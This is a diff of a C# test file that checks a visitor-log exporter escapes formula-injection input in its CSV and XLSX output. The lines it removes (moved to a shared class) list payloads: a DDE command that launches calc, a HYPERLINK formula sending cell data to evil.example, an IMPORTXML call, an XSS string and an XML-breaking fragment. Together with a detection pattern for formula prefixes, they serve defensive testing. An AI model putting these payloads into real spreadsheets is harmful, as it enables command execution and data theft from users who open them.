@@ -11,21 +11,11 @@ namespace Bridge.Host.Tests.Exporting;
 /// <summary>What a visitor calls himself is text in a book's CSV and XLSX, whoever reads them; times and counts are what they are.</summary>
 public sealed class ExportedBookTests(ITestOutputHelper output)
 {
-    private static readonly string[] Beginnings = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\u3000=", "\ufeff=", "\u200b=", "\u202e=", "＝", "＋", "－", "＠", "\0=", "'=", "\"="];
-
-    private static readonly string[] Ends =
-    [
-        "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.example?\"&A1,\"click\")", "IMPORTXML(\"http://evil.example\",\"//a\")", "SUM(1,2)", "2+3+cmd|' /C calc'!A0",
-        "\";=1+1", ",=1+1", "x;=1+1", "x\r\n=1+1", "<img src=x onerror=alert(1)>", "]]></t><f>1+1</f><t>",
-    ];
-
     private static readonly DateTimeOffset Morning = new(2026, 3, 10, 10, 9, 42, TimeSpan.FromHours(8));
-
-    private static IReadOnlyList<string> Corpus { get; } = [.. from beginning in Beginnings from end in Ends select beginning + end];
 
     private static ExportTable Table { get; } = new(
         "来人来访记录表", ["编号", "时间", "人数", "来人姓名"],
-        [.. Corpus.Select((text, number) => (IReadOnlyList<BookCell?>)
+        [.. FormulaText.Corpus.Select((text, number) => (IReadOnlyList<BookCell?>)
             [new BookCell.Words($"{number:d4}"), new BookCell.Time(Morning), new BookCell.Count(3), new BookCell.Words(text)])]);
 
     private static CancellationToken Cancelled => TestContext.Current.CancellationToken;
@@ -40,7 +30,7 @@ public sealed class ExportedBookTests(ITestOutputHelper output)
     [Fact]
     public void NothingInCsvIsAFormula()
     {
-        Assert.True(Corpus.Count >= 200, $"{Corpus.Count}");
+        Assert.True(FormulaText.Corpus.Count >= 200, $"{FormulaText.Corpus.Count}");
         var rows = Csv(Encoding.UTF8.GetString(CsvExport.Write(Table))[1..]);
         Judge(rows.Skip(1).Select(row => row[3]).ToList(), "CSV");
         Assert.Equal(["0000", "2026-03-10 10:09:42", "3"], rows[1].Take(3));
@@ -95,24 +85,15 @@ public sealed class ExportedBookTests(ITestOutputHelper output)
     [InlineData(" \u200b＝1", true, "hidden and wide")]
     [InlineData("'=1", false, "guarded")]
     [InlineData("王明", false, "a name")]
-    public void WhatIsLookedForIsFound(string cell, bool formula, string why) => Assert.True(IsFormula(cell) == formula, why);
+    public void WhatIsLookedForIsFound(string cell, bool formula, string why) => Assert.True(FormulaText.IsFormula(cell) == formula, why);
 
     // Every dangerous one is there, in its place, and begins with what makes it text.
     private void Judge(List<string> cells, string where)
     {
-        Assert.Equal(Corpus.Count, cells.Count);
-        Assert.Empty(cells.Where(IsFormula).Select(cell => $"{where}: {cell}"));
-        Assert.All(Corpus.Zip(cells), pair => Assert.True(Bare(pair.Second).Contains(Bare(pair.First), StringComparison.Ordinal), $"{where}: {pair.First} became {pair.Second}"));
+        Assert.Equal(FormulaText.Corpus.Count, cells.Count);
+        Assert.Empty(cells.Where(FormulaText.IsFormula).Select(cell => $"{where}: {cell}"));
+        Assert.All(FormulaText.Corpus.Zip(cells), pair => Assert.True(FormulaText.Bare(pair.Second).Contains(FormulaText.Bare(pair.First), StringComparison.Ordinal), $"{where}: {pair.First} became {pair.Second}"));
         output.WriteLine($"{where}: {cells.Count} cells, none is a formula");
-    }
-
-    // Without what guards it, and without what XML cannot hold or makes alike.
-    private static string Bare(string text) => string.Concat(text.Where(letter => letter is not ('\'' or '\r' or '\n' or '\0' or '\ufffd')));
-
-    private static bool IsFormula(string cell)
-    {
-        var seen = cell.TrimStart(' ', '\u00a0', '\u3000', '\ufeff', '\u200b', '\u202e', '\t', '\r', '\n', '\0', '\ufffd');
-        return seen.Length > 0 && "=+-@＝＋－＠".Contains(seen[0], StringComparison.Ordinal);
     }
 
     private static XDocument Sheet(byte[] file)
